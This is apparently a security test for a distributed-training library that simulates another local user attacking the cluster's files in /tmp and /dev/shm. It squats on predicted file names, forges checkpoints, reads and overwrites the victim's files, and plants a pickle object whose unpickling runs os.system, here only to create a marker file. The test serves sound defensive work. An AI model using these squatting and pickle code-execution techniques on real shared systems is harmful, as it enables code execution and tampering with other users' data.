"""A program of another Unix user that tries to read or replace a cluster's files.

    python -m tests.security.file_stranger MARKER UID

Until its standard input closes, it reads the names of this user's files in /tmp and
/dev/shm and the command lines of this user's processes. It creates, links and opens
every name that it finds or can guess. Then it prints one line of JSON: what it could
read or replace.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import pickle
import re
import select
import sys
from collections.abc import Iterator
from pathlib import Path

import torch

from nbdist.training.elastic import checkpoint

SHARED = (Path("/tmp"), Path("/dev/shm"))
OURS = re.compile(r"nbdist-[\w.-]*")
ENDINGS = ("commit", "commits", "resume", "variables", "memory", "reserve")
INSIDE = (
    "",
    "commits",
    "commits/record",
    "resume/record",
    "assignments.json",
    "security/ipcontroller-client.json",
    "output",
)


class Code:
    """An object that runs a command when it is unpickled."""

    def __init__(self, marker: str) -> None:
        self._marker = marker

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (f"touch {self._marker}",)


class Stranger:
    """Attacks files, and records what it could read or replace."""

    def __init__(self, marker: str, victim: int) -> None:
        self._victim = victim
        payload = io.BytesIO()
        torch.save({"step": Code(marker)}, payload)
        forged = Path.cwd() / "forged"
        header = {"commit": 10**6, "size": 2, "names": ["step"], "time": 1e9}
        checkpoint.write(forged, header, payload.getvalue())
        self._commit = forged.read_bytes()
        self._pickle = pickle.dumps(Code(marker))
        self._own: set[Path] = set()
        self.got: set[str] = set()
        self.tried = 0
        for number in range(128):  # Open MPI's names by default
            self._take(Path(f"/dev/shm/open_mpi.{number:04}"))

    def look_and_take(self) -> None:
        """Attack all names that exist now."""
        for name in set(self._names()):
            for folder in SHARED:
                self._enter(folder / name)
                for predicted in self._predicted(name):
                    self._take(folder / predicted)

    def _names(self) -> Iterator[str]:
        for folder in SHARED:
            for name in os.listdir(folder):
                if self._is_victims(folder / name):
                    yield from OURS.findall(name)
        for process in Path("/proc").glob("[0-9]*/cmdline"):
            with contextlib.suppress(OSError):
                text = (
                    process.read_bytes().replace(b"\0", b" ").decode(errors="replace")
                )
                if self._is_victims(process.parent):
                    yield from OURS.findall(text)
                    yield f"torch_{process.parent.name}"

    def _is_victims(self, path: Path) -> bool:
        with contextlib.suppress(OSError):
            return os.lstat(path).st_uid == self._victim
        return False

    def _predicted(self, name: str) -> Iterator[str]:
        yield name
        for ending in ENDINGS:
            yield f"{name}-{ending}"
            yield f".{name}-{ending}"

    def _take(self, path: Path) -> None:
        """Create a forged file where the cluster may create one."""
        if path in self._own:
            return
        self.tried += 1
        contents = (
            self._commit if path.name.endswith(("commit", "commits")) else self._pickle
        )
        flags = os.O_CREAT | os.O_EXCL | os.O_WRONLY
        with contextlib.suppress(OSError):
            with os.fdopen(os.open(path, flags, 0o666), "wb") as file:
                file.write(contents)
            path.chmod(0o666)
            self._own.add(path)

    def _enter(self, folder: Path) -> None:
        """Read, change or replace the files in a folder of the cluster."""
        if folder in self._own or not os.path.lexists(folder):
            return
        for name in INSIDE:
            path = folder / name
            with contextlib.suppress(OSError):
                self.got.add(f"listed {path}: {os.listdir(path)}")
            with contextlib.suppress(OSError):
                self.got.add(f"read {path}: {path.read_bytes()[:100]!r}")
            with contextlib.suppress(OSError):
                path.write_bytes(self._commit)
                self.got.add(f"wrote {path}")
        with contextlib.suppress(OSError):
            folder.rename(folder.with_name("taken"))
            self.got.add(f"renamed {folder}")

    def clean_up(self) -> None:
        """Remove the forged files."""
        for path in self._own:
            path.unlink(missing_ok=True)


def main() -> None:
    """Attack until the standard input closes."""
    stranger = Stranger(sys.argv[1], int(sys.argv[2]))
    print("looks", flush=True)
    try:
        while not select.select([sys.stdin], [], [], 0.005)[0]:
            stranger.look_and_take()
    finally:
        stranger.clean_up()
    print(
        json.dumps({"got": sorted(stranger.got), "tried": stranger.tried}), flush=True
    )


if __name__ == "__main__":
    main()
